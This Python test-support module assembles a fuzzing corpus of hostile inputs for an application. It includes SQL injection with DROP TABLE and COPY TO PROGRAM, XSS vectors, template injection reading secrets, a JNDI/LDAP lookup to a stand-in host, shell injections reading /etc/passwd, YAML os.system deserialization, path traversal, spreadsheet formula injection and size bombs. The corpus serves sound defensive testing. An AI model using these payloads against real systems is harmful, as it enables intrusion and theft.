"""The texts that somebody may send to do harm, or that somebody else sends without knowing that they do: one corpus for all doors.

Where they are sent, and what must not come of it, stands in the tests. A text may hold what no database and no UTF-8 can: NUL, half
a character, bytes that are no text (as `surrogateescape` has them). `MARK` stands in each where it takes nothing of its harm away,
so that it is recognised wherever it turns up.
"""

import json
import unicodedata
from collections.abc import Callable
from itertools import chain

MARK = "zqx"
TAG = f"x-{MARK}"
"""An element that no page of ours has; and `onZQX` and `MARK()` are no code of ours."""
HEADER = f"X-{MARK.capitalize()}"


def _around(characters: str) -> list[str]:
    return [f"{MARK}{character}{MARK}" for character in characters]


def _range(first: int, last: int) -> str:
    return "".join(map(chr, range(first, last + 1)))


def controls() -> list[str]:
    """Each control character, and half characters, which UTF-8 doesn't have."""
    halves = ["\ud800", "\udbff", "\udc00", "\udfff", "\udc00\ud800", "\ud83d", f"{MARK}\ud83d\ud83d", f"\udfff{MARK}"]
    return [*_around(_range(0, 31) + _range(0x7F, 0x9F)), "\x00", f"\x00{MARK}", f"{MARK}\x00", "\x00" * 300, *halves]


def bytes_that_are_no_text() -> list[str]:
    """Invalid UTF-8: cut off, overlong, halves of characters, beyond the last one, UTF-16 and Latin-1."""
    raws = [b"\xff", b"\xfe\xff", b"\xff\xfez\x00q\x00", b"\x80", b"\xc3", b"\xc3(", b"\xe2\x82", b"\xf0\x9f\x92", b"\xc0\xaf", b"\xc0\x80",
            b"\xe0\x80\xaf", b"\xed\xa0\x80", b"\xed\xa0\xbd\xed\xb2\xa9", b"\xf4\x90\x80\x80", b"\xf8\x88\x80\x80\x80",
            b"caf\xe9", b"\x93quoted\x94", b"\x1b$B$\"\x1b(B\xff"]  # fmt: skip
    return [(raw + MARK.encode()).decode("utf-8", "surrogateescape") for raw in raws]


def unseen() -> list[str]:
    """Characters that take no room, turn the direction of what follows, or end a line for some and not for others."""
    unseen = ("\u00ad\u034f\u061c\u115f\u1160\u17b4\u17b5\u180e\u2028\u2029\u2060\u2061\u2062\u2063\u2064\u3000\u3164\ufe00\ufe0f"
              "\ufeff\uffa0\ufff9\ufffa\ufffb\ufffc\ufffd\ufdd0\ufffe\uffff\ue000\U000e0001\U000e0041\U000e0100\U0010fffd\U0010ffff")  # fmt: skip
    directions = _range(0x200B, 0x200F) + _range(0x202A, 0x202E) + _range(0x2066, 0x206F)
    turned = [
        f"\u202e{MARK}gpj.exe",
        f"{MARK}\u2066\u2066\u2066",
        f"\ufeff{MARK}",
        f"{MARK}\ufeff",
        "\u200b",
        "\u202e" * 200,
    ]
    return [*_around(unseen + directions), *turned]


def bombs() -> list[str]:
    """What grows: in size, in marks on one letter, when it is folded, or in the hands of an expression that tries everything."""
    sizes = [31, 33, 51, 64, 65, 100, 101, 128, 150, 151, 200, 201, 254, 255, 256, 257, 300, 500, 501, 512, 513, 1000, 1001, 4096,
             4097, 16_385, 65_535, 65_536]  # fmt: skip
    grown = [MARK * (size // 3) + "z" * (size % 3) for size in sizes]
    marks = ["e" + "\u0301" * 1000, "z" + _range(0x0300, 0x036F) * 9, MARK + "\u0489" * 500, "ﷺ" * 500, "ﷺ" * 170, "İ" * 300, "ß" * 200, "ŉ" * 300,
             f"a@{'İ' * 500}.ch"]  # fmt: skip
    tries = ["a" * 40_000 + "!", "(" * 5000, "[" * 5000, "(a+)+$", "(zqx*)*", "a{1000}{1000}", "^(([a-z])+.)+[A-Z]([a-z])+$", "[", "*", "?",
             "\\", "x@" + "a." * 5000, "@" * 5000, " " * 50_000 + "x", "\t" * 5000, "-" * 5000, ":" * 5000, "," * 10_000, "0" * 5000,
             "1" * 5000, "." * 5000, "/" * 2000, "%" * 5000, "&" * 5000, "<" * 5000, '"' * 5000, "{" * 3000]  # fmt: skip
    return [*grown, *marks, *tries, (MARK * 33_334)[:100_000]]


def numbers() -> list[str]:
    return ["1e400", "-1e400", "1e-400", "1E1000000", "NaN", "nan", "Infinity", "-Infinity", "inf", "sNaN", "9" * 400, "-" + "9" * 400, "9" * 4301,
            "0x10", "0b1", "0o7", "1_000", "1,000", "1 000", "1.000,5", "１２３", "٣", "²", "½", "Ⅷ", "-0", "+1", "00", "1.", ".5", "- 1", "--1",
            "2147483647", "2147483648", "-2147483649", "9223372036854775807", "9223372036854775808", "-9223372036854775809",
            "18446744073709551616", "32768", "0.1e1", "1e5", "1" + "0" * 30, "0." + "1" * 400, "340282366920938463463374607431768211456"]  # fmt: skip


def moments() -> list[str]:
    return ["0000-00-00", "0000-01-01T00:00:00Z", "0001-01-01T00:00:00Z", "0001-01-01T00:00:00+14:00", "0001-01-01", "9999-12-31", "10000-01-01",
            "9999-12-31T23:59:59.999999Z", "9999-12-31T23:59:59-14:00", "2024-02-30", "2023-02-29", "2024-02-29T24:00:00Z", "-2026-01-01",
            "1969-12-31T23:59:59Z", "1970-01-01T00:00:00+14:00", "2026-11-22T25:61:61Z", "2016-12-31T23:59:60Z", "2026-W47-7", "2026-W54-1",
            "2026-327", "2026-11-22T08:00:00+99:99", "2026-11-22T08:00:00", "2026-11-22 08:00", "2026-03-29T02:30", "22.11.2026", "11/22/2026",
            "20261122T080000Z", "2026-11-22T08:00:00.1234567890Z", "٢٠٢٦-١١-٢٢", "２０２６-11-22", "now", "today", "tomorrow", "epoch", "infinity",
            "-infinity", "P1Y", "@1700000000", "1700000000", "12:00", "4713-01-01 BC", "294277-01-01"]  # fmt: skip


def names() -> list[str]:
    """Ids and words that stand for something: here, in a language, in a database, in a file system."""
    ids = ["00000000-0000-0000-0000-000000000000", "ffffffff-ffff-ffff-ffff-ffffffffffff", "{01890a5d-ac96-774b-bcce-b302099a8057}",
           "urn:uuid:01890a5d-ac96-774b-bcce-b302099a8057", "01890a5dac96774bbcceb302099a8057", "01890a5d-ac96-774b-bcce-b302099a805",
           "01890A5D-AC96-774B-BCCE-B302099A8057", "0-1-8-9-0", "eyJhbGciOiJub25lIn0.eyJzdWIiOiJ6cXgifQ.", "AZEOjKyWd0u8zrMCCZqAVw.1abc.x"]  # fmt: skip
    people = [f"user_id:{MARK}", "user_id:", ":", "::", f"email:{MARK}@example.com", "email:a,b@example.com", f"email:{MARK}<a@example.com>",
              f"{MARK},b@example.com", f"{MARK}<a@example.com>", f'"{MARK}"@example.com', f"{MARK}@[127.0.0.1]", f"{MARK}@{'a' * 64}.example",
              f"{MARK}@xn--a.example", f"{MARK}@bücher.example", f"ü{MARK}@example.com", f"{MARK}@localhost", f"{MARK}@a..b", f"uuid:{MARK}",
              f"{MARK}:{MARK}", f"USER_ID:{MARK}", "uuid:00000000-0000-0000-0000-000000000000", f"email:a@{'İ' * 505}.ch"]  # fmt: skip
    words = ["null", "NULL", "None", "nil", "undefined", "true", "True", "yes", "on", "false", "[]", "{}", "[object Object]", "\\N", "\\.", "-", "--",
             "add", "new", "self", "pk", "id", "__proto__", "constructor", "toString", "__class__", "__init__.__globals__", "privacy_rights",
             "public", "pg_catalog.pg_class", "CON", "NUL.txt", "..", ".", "~root", "granted", "admin", "anonymous", "everyone", ""]  # fmt: skip
    return [*ids, *people, *words]


def sql() -> list[str]:
    return [f"'{MARK}", f"''{MARK}", f"{MARK}' OR '1'='1", f"{MARK}'; DROP TABLE profiles_event; --", f'{MARK}" OR 1=1 --', f"{MARK}') OR ('1'='1",
            "1; SELECT pg_sleep(30)", f"{MARK}' || pg_sleep(30) || '", f"{MARK}' UNION SELECT NULL,NULL,NULL --", "1 OR 1=1", f"{MARK}'/*", f"*/{MARK}",
            f"$$ {MARK} $$", f"E'\\x27{MARK}'", f"{MARK}\\'; --", f"{MARK}%' ESCAPE '!", "%", "_", "%%%%%", "\\%", f"{MARK}::regclass", "ARRAY[1]", "{1,2}",
            '{"a"', f"{MARK}); COPY (SELECT 1) TO PROGRAM 'id'; --", f"{MARK}' AND 1=CAST((SELECT version()) AS int) --", "0 AS x", "id__gt", "user__password",
            f"{MARK}__startswith", "data->>'x'", '{"$gt": ""}', "*)(uid=*))(|(uid=*", f"' or '{MARK}'='{MARK}", "@@version", "{{1,2},{3}}"]  # fmt: skip


def markup() -> list[str]:
    """What would become an element, an attribute or a script, in whichever place of a page it stands."""
    run = f"{MARK}()"
    return [f"<{TAG}>", f"</{TAG}>", f"<script>{run}</script>", f"</script><script>{run}</script>", f"<ScRiPt >{run}</sCrIpT>", f'"><{TAG}>',
            f"'><{TAG}>", f'" onfocus="{run}" autofocus="', f"' onmouseover='{run}", f"` onload=`{run}", f"x onclick={run}", f"<img src=x onerror={run}>",
            f"<svg onload={run}>", f"<svg><script>{run}</script></svg>", f"<iframe srcdoc='<{TAG}>'></iframe>", f"<a href='javascript:{run}'>{MARK}</a>",
            f"javascript:{run}", f"JaVaScRiPt:{run}", f"java\tscript:{run}", f"\x01javascript:{run}", f"vbscript:{run}", f"data:text/html,<{TAG}>",
            f"data:text/html;base64,PHgtenF4Pg=={MARK}", f"//{MARK}.example/", f"https://{MARK}.example", f"http://[::1]:{MARK}", f"https://a@b@{MARK}",
            f"http:///{MARK}", f"https://x\\@{MARK}.example", f"http://[{MARK}", f"file:///etc/{MARK}", f"https://{MARK}.example/<{TAG}>", f"ftp://{MARK}",
            f"</title><{TAG}>", f"</textarea><{TAG}>", f"</select><{TAG}>", f"--><{TAG}>", f"--!><{TAG}>", f"]]><{TAG}>", f"<!--{MARK}", f"<![CDATA[<{TAG}>]]>",
            f"<noscript><p title='</noscript><{TAG}>'>", f"<math><mi xlink:href='javascript:{run}'>", f"<template><{TAG}></template>", f"<base href=//{MARK}>",
            f"<meta http-equiv=refresh content='0;url=//{MARK}'>", f"<link rel=stylesheet href=//{MARK}>", f"<style>*{{background:url(//{MARK})}}</style>",
            f"<form action=//{MARK}><input name=x>", f"<input type=hidden name=csrfmiddlewaretoken value={MARK}>", f"&lt;{TAG}&gt;", f"&#60;{TAG}&#62;",
            f"&amp;lt;{TAG}&amp;gt;", f"&{MARK};", "&#0;&#xd800;&#x110000;", f"\\u003c{TAG}\\u003e", f"\\x3c{TAG}\\x3e", f"%3C{TAG}%3E", f"%253C{TAG}%253E",
            f"\uff1c{TAG}\uff1e", f"<{TAG}", f"{TAG}>", f'{{"a":"</script><{TAG}>"}}', f"'-{run}-'", f'"-{run}-"', f"${{{run}}}", f"<!DOCTYPE x [<!ENTITY {MARK} SYSTEM 'file:///etc/passwd'>]>",
            f"<?xml version='1.0'?><{TAG}/>", f"[{MARK}](javascript:{run})", f"<details open ontoggle={run}>", f"<body onpageshow={run}>"]  # fmt: skip


def templates_and_formats() -> list[str]:
    return ["{{ " + MARK + " }}", "{{7*7}}" + MARK, "{% debug %}", "{% load " + MARK + " %}", "{% include '/etc/passwd' %}", "{% csrf_token %}", "{#" + MARK,
            "{{ settings.SECRET_KEY }}", "{{ request.user.password }}", "{{''.__class__.__mro__}}", "{%", "%}", "}}", "{{", "${7*7}", "#{7*7}", "<%= 7*7 %>",
            "${jndi:ldap://" + MARK + ".example/a}", "%s" + MARK, "%(" + MARK + ")s", "%n%n%n%n", "%1$s", "%d%d%d", "%", "%%", "%(", "%z", "{0}", "{}", "{" + MARK + "}",
            "{0.__class__}", "{" + MARK + ".__globals__[SECRET]}", "{:>100000000}", "%100000000d", "$" + MARK, "$(id)" + MARK, "`id`" + MARK, "; cat /etc/passwd " + MARK,
            "| id", "&& id", "\n/bin/sh", "!!python/object/apply:os.system ['id']", "&a [*a,*a]", "!ruby/object", "rO0ABXNy", "gASVAAAA", "O:8:\"stdClass\":0:{}"]  # fmt: skip


def sheets_logs_and_headers() -> list[str]:
    """Cells that a spreadsheet would compute; lines that would stand in a log or a header as if they were ours."""
    cells = [f"={MARK}()", "=1+1", "=cmd|' /C calc'!A0", f'=HYPERLINK("https://{MARK}.example","x")', f"+{MARK}", f"-{MARK}", f"@SUM({MARK})", f"\t={MARK}", f"\r={MARK}",
             f"\n={MARK}", f'"{MARK}', f'"{MARK}""', f"{MARK},{MARK}", f"{MARK};{MARK}", f"{MARK}\t{MARK}", f'{MARK}"\r\n"{MARK}', "%0A=1", f"\uff1d{MARK}"]  # fmt: skip
    lines = [f"{MARK}\nERROR root it_was_{MARK}", f"{MARK}\r\n2026-11-22T00:00:00Z [error] {MARK}", f"\x1b[2J\x1b[31m{MARK}", f"\x1b]0;{MARK}\x07", f"\x9b31m{MARK}",
             f"{MARK}\x08\x08\x08", f"{MARK}\u2028ERROR {MARK}", f"{MARK}\\nERROR"]  # fmt: skip
    headers = [f"{MARK}\r\nSet-Cookie: {MARK}=1", f"{MARK}\r\n{HEADER}: 1", f"{MARK}\r\n\r\n<{TAG}>", f"{MARK}%0d%0a{HEADER}:1", f"{MARK}\n{HEADER}: 1", f"{MARK}\r{HEADER}: 1",
               f"{MARK}嘊嘍{HEADER}: 1", f"{MARK}\r\nBcc: all@example.com", f'{MARK}"; filename="x.html', f"{MARK}; charset=utf-7", f"{MARK}\u010d\u010a{HEADER}: 1"]  # fmt: skip
    return [*cells, *lines, *headers]


def paths() -> list[str]:
    return [f"../../../../etc/{MARK}", "../" * 200 + "etc/passwd", f"..\\..\\{MARK}", f"%2e%2e%2f{MARK}", f"%252e%252e%252f{MARK}", f"..%c0%af{MARK}", f"....//....//{MARK}", f"/etc/passwd\x00{MARK}",
            f"/{MARK}", f"//{MARK}", f"C:\\{MARK}", f"\\\\{MARK}\\share", f"{MARK}/../../x", f"{MARK}/.", f"{MARK}?x=1#y", f"{MARK}#{MARK}", f"{MARK}%00.csv", f"{MARK}%", f"{MARK}%zz",
            f"{MARK}%u0041", f"{MARK}+{MARK}", f"{MARK}&{MARK}=1", f"{MARK}=1&cursor={MARK}", f"{MARK}.", f".{MARK}", f"~{MARK}", f"{MARK};jsessionid=1", "/dev/zero", "file.csv\x00.png"]  # fmt: skip


def documents() -> list[str]:
    """JSON as text, where text was meant: deep, with names that programs take for their own, or nearly right."""
    deep = [f"{'[' * n}{']' * n}" for n in (33, 201, 2000, 20_000)] + [
        '{"a":' * n + "1" + "}" * n for n in (33, 201, 2000)
    ]
    said = [{"version": 1, "everyone": True}, {"version": 1, "trait": MARK, "op": "eq", "value": MARK}, {"version": 1, "performed": MARK}, {"__proto__": {MARK: 1}},
            {"version": 10**30, "all": []}, {"version": 1, "not": {"in_segment": MARK}}, [MARK], {MARK: [{}, [], None]}, {"version": 1, "trait": "x", "op": "matches", "value": "(a+)+$"}]  # fmt: skip
    wrong = ['{"a":1e400}', '{"a":NaN}', '{"a":1,"a":2}', '{"a":}', "{'a':1}", '{"a":"\\ud800"}', '{"a":"\\u0000"}', f'["{MARK}",]', f"/*{MARK}*/1", '\ufeff{"a":1}', f'{{"{MARK}":' + "9" * 5000 + "}",
             f'<a><!--{MARK}--></a>', "&lol9;", "---\n- x"]  # fmt: skip
    return [*deep, *map(json.dumps, said), *wrong]


def looks_alike() -> list[str]:
    """Texts that look like others, or become others when they are folded or put in a normal form; and pictures of many parts."""
    pairs = ["é", "Å", "ñ", "ﬁ", "①", "Ⅳ", "ｱ", "가", "ǆ", "ế", "Ω", "µ"]
    forms = {f"{MARK}{unicodedata.normalize(form, one)}" for one in pairs for form in ("NFC", "NFD", "NFKC", "NFKD")}
    letters = ["аdmin", "ａｄｍｉｎ", "ⓐⓓⓜⓘⓝ", "𝖆𝖉𝖒𝖎𝖓", "ADMİN", "admın", "groß", "GROẞ", "ſegment", "\u212aelvin", "\u212bngström", "раypal", "l1I|", "Ａ\u0301", "ı̇", "ǰ", "ΐ",
               "σίσυφος", "ΣΊΣΥΦΟΣ", "ﬃ", "\u0130stanbul", "a\u030ann", "ånn"]  # fmt: skip
    pictures = ["👩‍👩‍👧‍👦", "👨🏽‍🚀", "🏳️‍🌈", "🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f", "🇨🇭", "🇨", "1️⃣", "👍🏿" * 40, "👩‍👩‍👧‍👦" * 60, "\u200d" * 100, "🫱🏻‍🫲🏿", "💥", "☠\ufe0e"]  # fmt: skip
    scripts = [
        "שלום " + MARK,
        "مرحبا " + MARK,
        "你好 " + MARK,
        "नमस्ते " + MARK,
        "\u0e2a\u0e27\u0e31\u0e2a\u0e14\u0e35 " + MARK,
        "𐌰𐌱𐌲 " + MARK,
        "\u1820\u1826 " + MARK,
        "ꙮ " + MARK,
    ]
    return [*sorted(forms), *[f"{MARK}{one}" for one in letters], *pictures, *scripts]


FAMILIES: tuple[Callable[[], list[str]], ...] = (
    controls, bytes_that_are_no_text, unseen, bombs, numbers, moments, names, sql, markup, templates_and_formats, sheets_logs_and_headers, paths, documents,
    looks_alike,
)  # fmt: skip

HOSTILE: tuple[str, ...] = tuple(dict.fromkeys(chain.from_iterable(family() for family in FAMILIES)))

JSON_VALUES: tuple[str, ...] = (
    "null", "true", "false", "0", "-1", "7", "1e400", "-1e400", "NaN", "Infinity", "1.5", "1e300", "9" * 400, "9" * 5000, "18446744073709551616", "-0.0",
    "[]", "{}", "[[[]]]", "[null]", '[{"a":1}]', '{"":0}', '{"a":{"b":[]}}', "[" * 250 + "]" * 250, "[" * 20_000 + "]" * 20_000, '"\\ud800"', '"\\u0000"', '{"\\u0000":1}', '{"\\ud800":1}',
    '{"a":1e400}', '{"a":18446744073709551616}', '{"a":"\\ud800"}', '{"a":"\\u0000"}', '{"a":1,"a":2}', '"', "{", "", "undefined",
)  # fmt: skip
"""What may stand where JSON has a value, as it would be written: of another type than was meant, out of range, or no JSON."""


def raw(text: str) -> bytes:
    """The bytes that somebody would send: UTF-8, but for what isn't."""
    try:
        return text.encode("utf-8", "surrogateescape")
    except UnicodeEncodeError:  # half characters as well, as Java and JavaScript write them
        return b"".join(_raw(character) for character in text)


def _raw(character: str) -> bytes:
    if "\udc80" <= character <= "\udcff":
        return bytes([ord(character) - 0xDC00])
    return character.encode("utf-8", "surrogatepass")


def is_text(text: str) -> bool:
    """Whether a database can hold it: neither NUL nor half a character."""
    return "\x00" not in text and not any("\ud800" <= character <= "\udfff" for character in text)


SEPARATOR = "\x1e\x1e"
"""Between texts of which each is to stand in a cell of one file."""


def sheet(texts: str) -> bytes:
    """A file of decisions with one of the texts in each row, in turn in each of its cells."""
    usual = ["user_id", "ann", "sms", "granted", "2026-11-01T08:00:00Z", "DE", "newsletter", "1", "en", "paper"]
    heading = (
        b"namespace,value,purpose,decision,collected_at,jurisdiction,notice,notice_version,notice_locale,evidence_form"
    )
    rows = [heading]
    for place, text in enumerate(texts.split(SEPARATOR)):
        cells = list(usual)
        cells[place % len(cells)] = text
        rows.append(b",".join(b'"' + raw(cell.replace('"', '""')) + b'"' for cell in cells))
    return b"\n".join(rows)
